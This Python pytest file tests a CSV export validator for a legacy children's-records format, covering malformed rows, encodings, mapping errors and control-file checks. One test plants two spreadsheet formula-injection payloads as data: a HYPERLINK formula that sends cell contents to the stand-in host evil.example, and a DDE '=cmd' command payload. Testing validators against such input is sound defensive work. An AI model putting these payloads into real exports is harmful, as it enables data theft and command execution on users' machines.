"""Adapted exports (validate-export --format): the legacy-csv fixtures, mapping errors, hostile CSV."""

from __future__ import annotations

import importlib.util
import json
import shutil
import zipfile
from pathlib import Path

import pytest
from export_support import ROOT, run_cli

from conformance.export import Limits
from conformance.export import validate as validate_module
from conformance.export.mapping import load_format
from conformance.export.native import validate_native
from conformance.export.render import write_control
from conformance.results.verdicts import Verdict

pytestmark = pytest.mark.timeout(120)

FIXTURES = ROOT / "fixtures" / "export-formats"
LEGACY = FIXTURES / "legacy-csv"
EXPECTED = json.loads((LEGACY / "invalid.json").read_text(encoding="utf-8"))
FORMAT = load_format("legacy-csv")
COUNTS = {f.file: None for f in FORMAT.files.values()}


@pytest.fixture
def native(tmp_path: Path) -> Path:
    """A writable copy of the valid legacy-csv export."""
    target = tmp_path / "native"
    shutil.copytree(LEGACY / "valid", target)
    return target


def _rows(path: Path) -> int:
    import csv
    import io

    rows = csv.reader(io.StringIO(path.read_text(encoding="utf-8", errors="replace"), newline=""))
    return sum(1 for row in rows if row) - 1  # blank lines are not records


def _recontrol(directory: Path) -> None:
    write_control(directory, FORMAT, {name: _rows(directory / name) for name in COUNTS})


def _not_pass(report) -> dict[str, Verdict]:
    return {r: report.verdict(r) for r in report.judged if report.verdict(r) is not Verdict.PASS}


def test_valid_csv_export_is_conformant_and_result_records_the_mapping(tmp_path, capsys):
    assert run_cli("validate-export", str(LEGACY / "valid"), "--format", "legacy-csv", "--output", str(tmp_path)) == 0
    out = capsys.readouterr().out
    assert "verdict: CONFORMANT" in out and "format legacy-csv 1.0" in out
    result = json.loads((tmp_path / "result.json").read_text())
    export = result["target"]["export"]
    assert export["format"]["name"] == "legacy-csv" and export["format"]["sha256"] == FORMAT.sha256
    assert {f["name"] for f in export["files"]} == {f.file for f in FORMAT.files.values()}
    checks = [c for r in result["requirements"] for c in r["checks"] if c["id"] != "export::ICS-1A-EXP-009"]
    assert checks and all(c["reproduce"].endswith("--format legacy-csv") for c in checks)


@pytest.mark.parametrize("fault", sorted(EXPECTED))
def test_each_invalid_variant_is_caught_naming_csv_file_line_and_column(fault, tmp_path, capsys):
    expected = EXPECTED[fault]
    directory = LEGACY / "invalid" / fault
    report = validate_native(directory, FORMAT)
    assert _not_pass(report) == {expected["requirement"]: Verdict.FAIL}
    (finding,) = report.examples(expected["requirement"])
    assert (finding.file, finding.line, finding.column) == (expected["file"], expected["line"], expected["column"])
    if expected["column"] is not None:
        with open(directory / expected["file"], encoding="utf-8", errors="replace") as fh:
            header = fh.readline().rstrip("\n").split(",")
        assert finding.column_index == header.index(expected["column"]) + 1
    assert run_cli("validate-export", str(directory), "--format", "legacy-csv", "--output", str(tmp_path)) == 1
    out = capsys.readouterr().out
    location = f"{expected['file']}:{expected['line']}"
    if expected["column"] is not None:
        location += f" [{expected['column']}, column {finding.column_index}]"
    assert location in out, out


def test_fixtures_are_reproducible(tmp_path):
    spec = importlib.util.spec_from_file_location("build_formats", FIXTURES / "build.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    module.build(tmp_path)
    fresh = sorted(p for p in tmp_path.rglob("*") if p.is_file())
    assert fresh
    for path in fresh:
        committed = FIXTURES / path.relative_to(tmp_path)
        assert committed.read_bytes() == path.read_bytes(), (
            f"{committed} is stale: rerun fixtures/export-formats/build.py"
        )


def test_zip_and_parallel_conversion_agree(native, tmp_path, monkeypatch):
    archive = tmp_path / "native.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        for f in sorted(native.iterdir()):
            z.write(f, "extract/" + f.name)
    assert validate_native(archive, FORMAT).conformant
    monkeypatch.setattr(validate_module, "PARALLEL_THRESHOLD", 0)  # worker processes even for a small export
    report = validate_native(LEGACY / "invalid" / "orphan-reference", FORMAT, workers=2)
    assert _not_pass(report) == {"ICS-1A-EXP-005": Verdict.FAIL}
    assert report.examples("ICS-1A-EXP-005")[0].file == "CASE_NOTES.csv"


def test_systematic_bad_codes_are_counted_once_and_do_not_cascade(native):
    path = native / "CHILDREN.csv"
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    header = lines[0].rstrip("\n").split(",")
    sex = header.index("SEX")
    import csv
    import io

    rows = list(csv.reader(io.StringIO("".join(lines), newline="")))
    for row in rows[1:]:
        row[sex] = "?"
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    _recontrol(native)
    report = validate_native(native, FORMAT, max_examples=3)
    # every child is reported once, at its SEX column; the children keep their IDs, so
    # aliases, notes and assessments that reference them are not reported missing
    assert _not_pass(report) == {"ICS-1A-EXP-003": Verdict.FAIL}
    assert report.count("ICS-1A-EXP-003") == len(rows) - 1
    assert [f.line for f in report.examples("ICS-1A-EXP-003")] == [2, 3, 4]
    assert all(f.column == "SEX" for f in report.examples("ICS-1A-EXP-003"))


def test_bom_crlf_and_quoted_newlines_are_read(native):
    path = native / "CASE_NOTES.csv"
    text = path.read_text(encoding="utf-8")
    head, first, *rest = text.split("\n")
    cells = first.split(",")
    text_col = head.split(",").index("NOTE_TEXT")
    cells[text_col] = '"Two lines,\nwith a comma"'
    crlf = "\r\n".join([head, ",".join(cells), *rest])
    path.write_bytes(b"\xef\xbb\xbf" + crlf.encode("utf-8"))
    _recontrol(native)
    report = validate_native(native, FORMAT)
    assert report.conformant, {r: [str(f) for f in report.examples(r)] for r in _not_pass(report)}


def test_formula_text_is_data_not_a_finding_and_is_quoted_where_shown(native, tmp_path, capsys):
    import csv
    import io

    path = native / "CHILDREN.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    header = rows[0]
    rows[1][header.index("FORENAME")] = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    rows[2][header.index("SEX")] = "=cmd|' /C calc'!A0"
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    _recontrol(native)
    report = validate_native(native, FORMAT)
    assert _not_pass(report) == {"ICS-1A-EXP-003": Verdict.FAIL}  # only the code that is not a code
    (finding,) = report.examples("ICS-1A-EXP-003")
    assert (finding.line, finding.column) == (3, "SEX")
    assert "\"=cmd|' /C calc'!A0\" is not in code list sex" in finding.message


def test_hostile_rows_get_findings_not_tracebacks(native):
    path = native / "CASE_NOTES.csv"
    with open(path, "a", encoding="utf-8", newline="") as fh:
        fh.write("\n")  # a blank line
        fh.write('N9000001,C0000001,P0000001,"bad"quote,N,01/01/2006 10:00:00\n')  # not CSV
        fh.write("N9000002,C0000001,P0000001,x" + ",y" * 500 + "\n")  # far too many cells
    _recontrol(native)
    report = validate_native(native, FORMAT)
    findings = report.examples("ICS-1A-EXP-003")
    assert _not_pass(report) == {"ICS-1A-EXP-003": Verdict.FAIL}
    messages = {f.line: f.message for f in findings}
    base = _rows(LEGACY / "valid" / "CASE_NOTES.csv") + 1
    assert "blank line" in messages[base + 1]
    assert "not a CSV row" in messages[base + 2]
    assert "504 cells, the header 6" in messages[base + 3]


def test_huge_field_and_unterminated_quote(native):
    path = native / "CASE_NOTES.csv"
    with open(path, "a", encoding="utf-8", newline="") as fh:
        fh.write('N9000001,C0000001,P0000001,"' + "x" * 5000 + '",N,01/01/2006 10:00:00\n')
        fh.write('N9000002,C0000001,P0000001,"never closed,N,01/01/2006 10:00:00\n')
    _recontrol(native)
    report = validate_native(native, FORMAT, limits=Limits(max_line_bytes=4096))
    findings = report.examples("ICS-1A-EXP-003")
    assert _not_pass(report) == {"ICS-1A-EXP-003": Verdict.FAIL}
    base = _rows(LEGACY / "valid" / "CASE_NOTES.csv") + 1
    assert [f.line for f in findings] == [base + 1, base + 2]
    assert "field larger than field limit" in findings[0].message
    assert "unexpected end of data" in findings[1].message


def test_line_over_the_limit_stops_the_file_with_a_finding(native):
    path = native / "CASE_NOTES.csv"
    with open(path, "a", encoding="utf-8", newline="") as fh:
        fh.write("N9,C0000001,P0000001," + "," * 10_000 + "\n")
    _recontrol(native)
    report = validate_native(native, FORMAT, limits=Limits(max_line_bytes=4096))
    assert report.verdict("ICS-1A-EXP-003") is Verdict.FAIL
    assert any("byte limit" in f.message and f.file == "CASE_NOTES.csv" for f in report.examples("ICS-1A-EXP-003"))
    assert not report.conformant


def test_header_lacking_a_mapped_column(native):
    path = native / "CHILDREN.csv"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("NHS_NO", "NHS_NUMBER", 1), encoding="utf-8")
    _recontrol(native)
    report = validate_native(native, FORMAT)
    (finding,) = report.examples("ICS-1A-EXP-003")
    assert (finding.file, finding.line) == ("CHILDREN.csv", 1) and "lacks column 'NHS_NO'" in finding.message
    assert report.count("ICS-1A-EXP-003") == 1  # once, not once per row
    assert report.verdict("ICS-1A-EXP-007") is Verdict.SKIPPED  # its data were not read: not a PASS
    assert report.verdict("ICS-1A-EXP-005") is Verdict.SKIPPED


def test_missing_unexpected_and_control_file_problems(native):
    (native / "VISITS.csv").unlink()
    (native / "notes.txt").write_text("hello")
    report = validate_native(native, FORMAT)
    assert report.verdict("ICS-1A-EXP-001") is Verdict.FAIL
    assert any(f.file == "VISITS.csv" and "missing" in f.message for f in report.examples("ICS-1A-EXP-001"))
    files = {(f.file, f.message) for f in report.examples("ICS-1A-EXP-002")}
    assert ("notes.txt", "unexpected file in the export (not a file of format legacy-csv)") in files
    assert any(file == "CONTROL.csv" and "VISITS.csv is listed but missing" in message for file, message in files)
    (native / "CONTROL.csv").unlink()
    report = validate_native(native, FORMAT)
    assert any(f.file == "CONTROL.csv" for f in report.examples("ICS-1A-EXP-001"))


def test_control_file_sha256_mismatch(native):
    path = native / "STAFF.csv"
    path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))  # same rows, other bytes
    report = validate_native(native, FORMAT)
    assert _not_pass(report) == {"ICS-1A-EXP-002": Verdict.FAIL}
    columns = {f.column for f in report.examples("ICS-1A-EXP-002")}
    assert columns == {"BYTES", "SHA256"}


def test_phase_1c_and_transfer_are_refused_with_format(tmp_path, capsys):
    for extra in (["--phase", "1C"], ["--kind", "transfer"]):
        code = run_cli(
            "validate-export", str(LEGACY / "valid"), "--format", "legacy-csv", "--output", str(tmp_path), *extra
        )
        assert code == 2
        assert "--format" in capsys.readouterr().err


BASE = (ROOT / "specs" / "export-formats" / "legacy-csv.yaml").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("edit", "where", "says"),
    [
        (lambda t: t.replace("      upn: UPN\n", ""), "/record_types/children/fields", "upn not mapped"),
        (
            lambda t: t.replace("      upn: UPN\n", "      upn: UPN\n      uppn: X\n"),
            "fields/uppn",
            "no canonical field",
        ),
        (lambda t: t.replace("codes: sex}", "codes: gender}"), "fields/gender/codes", "no code list 'gender'"),
        (lambda t: t.replace('"M": male', '"M": mail'), "/code_lists/sex/M", "does not accept"),
        (
            lambda t: t.replace('"Y": true', "Y: true").replace('"N": false', "yes: false"),
            "/code_lists/yes_no",
            "quote it",
        ),
        (lambda t: t.replace('format: "%d/%m/%Y"}', 'format: "%d/%m"}', 1), "fields/date_of_birth/format", "lacks %Y"),
        (
            lambda t: t.replace("timezone: Europe/London}", "timezone: Mars/Olympus}", 1),
            "/timezone",
            "unknown time zone",
        ),
        (lambda t: t.replace("  file: CONTROL.csv", "  file: STAFF.csv"), "/manifest/file", "already the file"),
        (lambda t: t.replace("format: legacy-csv", "format: Legacy CSV"), "/format", "does not match"),
        (lambda t: t + "format: again\n", "/", "duplicate key 'format'"),
        (lambda t: "[not, a, mapping]\n", "/", "expected a mapping"),
        (lambda t: t.replace("gender: {column: SEX, codes: sex}", "gender: {column: SEX, type: date}"), "gender", ""),
    ],
)
def test_bad_mapping_is_a_usage_error_naming_file_and_path(edit, where, says, tmp_path, capsys):
    mapping = tmp_path / "mine.yaml"
    mapping.write_text(edit(BASE), encoding="utf-8")
    code = run_cli("validate-export", str(LEGACY / "valid"), "--format", str(mapping), "--output", str(tmp_path / "r"))
    err = capsys.readouterr().err
    assert code == 2, err
    assert str(mapping) in err and where in err and says in err, err
    assert "Traceback" not in err


def test_unknown_format_name_lists_the_published_ones(tmp_path, capsys):
    assert run_cli("validate-export", str(LEGACY / "valid"), "--format", "nope", "--output", str(tmp_path)) == 2
    assert "published: legacy-csv" in capsys.readouterr().err


def test_a_mapping_file_gives_the_same_verdicts_and_records_its_path(tmp_path):
    mapping = tmp_path / "copy.yaml"
    mapping.write_text(BASE, encoding="utf-8")
    fmt = load_format(str(mapping))
    assert fmt.source == str(mapping) and fmt.sha256 == FORMAT.sha256
    report = validate_native(LEGACY / "invalid" / "bad-check-digit", fmt)
    assert _not_pass(report) == {"ICS-1A-EXP-007": Verdict.FAIL}


@pytest.mark.parametrize("zone", ["Europe/London", "UTC", "America/New_York"])
def test_datetime_reading_matches_zoneinfo_across_daylight_saving(zone):
    from datetime import UTC, datetime, timedelta
    from zoneinfo import ZoneInfo

    from conformance.export.mapping import CellError, FieldSpec

    spec = FieldSpec("created_at", "CREATED", "datetime", "%d/%m/%Y %H:%M:%S", zone)
    convert = FORMAT.converter(spec)
    start = datetime(2008, 3, 8)
    for step in range(0, 24 * 270, 7):  # every 7 hours through both of 2008's changes, twice (cached)
        local = start + timedelta(hours=step, minutes=step % 60, seconds=step % 59)
        cell = local.strftime("%d/%m/%Y %H:%M:%S")
        expected = local.replace(tzinfo=ZoneInfo(zone)).astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
        assert convert(cell) == expected, cell
        assert convert(cell) == expected, cell
    for bad in ("31/04/2008 10:00:00", "29/02/2007 10:00:00", "01/01/2008 24:00:00", "2008-01-01 10:00:00"):
        with pytest.raises(CellError):
            convert(bad)
    assert FORMAT.converter(FieldSpec("d", "D", "date", "%d/%m/%Y"))("29/02/2008") == "2008-02-29"


def test_a_header_of_too_many_columns_is_refused(native):
    from conformance.export import native as native_module

    path = native / "STAFF.csv"
    path.write_text(",".join(f"C{k}" for k in range(native_module.MAX_COLUMNS + 1)) + "\n", encoding="utf-8")
    _recontrol(native)
    report = validate_native(native, FORMAT)
    (finding,) = report.examples("ICS-1A-EXP-003")
    assert (finding.file, finding.line) == ("STAFF.csv", 1) and "over the limit" in finding.message
    assert report.verdict("ICS-1A-EXP-005") is Verdict.SKIPPED  # practitioners unread: references not judged


def test_a_windows_1252_format_reads_its_text_and_flags_bytes_it_does_not_define(native, tmp_path):
    mapping = tmp_path / "cp1252.yaml"
    mapping.write_text(BASE.replace("encoding: utf-8", "encoding: windows-1252"), encoding="utf-8")
    fmt = load_format(str(mapping))
    for f in native.glob("*.csv"):  # the same export saved by a Windows system
        f.write_bytes(f.read_text(encoding="utf-8").encode("windows-1252", "replace"))
    write_control(native, fmt, {name: _rows(native / name) for name in COUNTS})
    report = validate_native(native, fmt)
    assert report.conformant, {r: [str(f) for f in report.examples(r)] for r in _not_pass(report)}
    path = native / "STAFF.csv"
    data = path.read_bytes().split(b"\n")
    cells = data[2].split(b",")
    cells[1] += b"\x81"  # 0x81: no character in windows-1252
    data[2] = b",".join(cells)
    path.write_bytes(b"\n".join(data))
    write_control(native, fmt, {name: _rows(native / name) for name in COUNTS})
    report = validate_native(native, fmt)
    assert _not_pass(report) == {"ICS-1A-EXP-003": Verdict.FAIL}
    (finding,) = report.examples("ICS-1A-EXP-003")
    assert (finding.file, finding.line, finding.column) == ("STAFF.csv", 3, "STAFF_NAME")
    assert "not windows-1252 text (byte 0x81)" in finding.message


def test_an_id_that_is_not_text_is_reported_once_and_not_kept(native):
    path = native / "CASE_NOTES.csv"
    data = path.read_bytes().split(b"\n")
    data[3] = b"N\xff" + data[3][1:]  # the note's reference (not referenced by any record)
    path.write_bytes(b"\n".join(data))
    _recontrol(native)
    report = validate_native(native, FORMAT)
    assert _not_pass(report) == {"ICS-1A-EXP-003": Verdict.FAIL}
    (finding,) = report.examples("ICS-1A-EXP-003")
    assert (finding.line, finding.column) == (4, "NOTE_REF") and report.count("ICS-1A-EXP-003") == 1
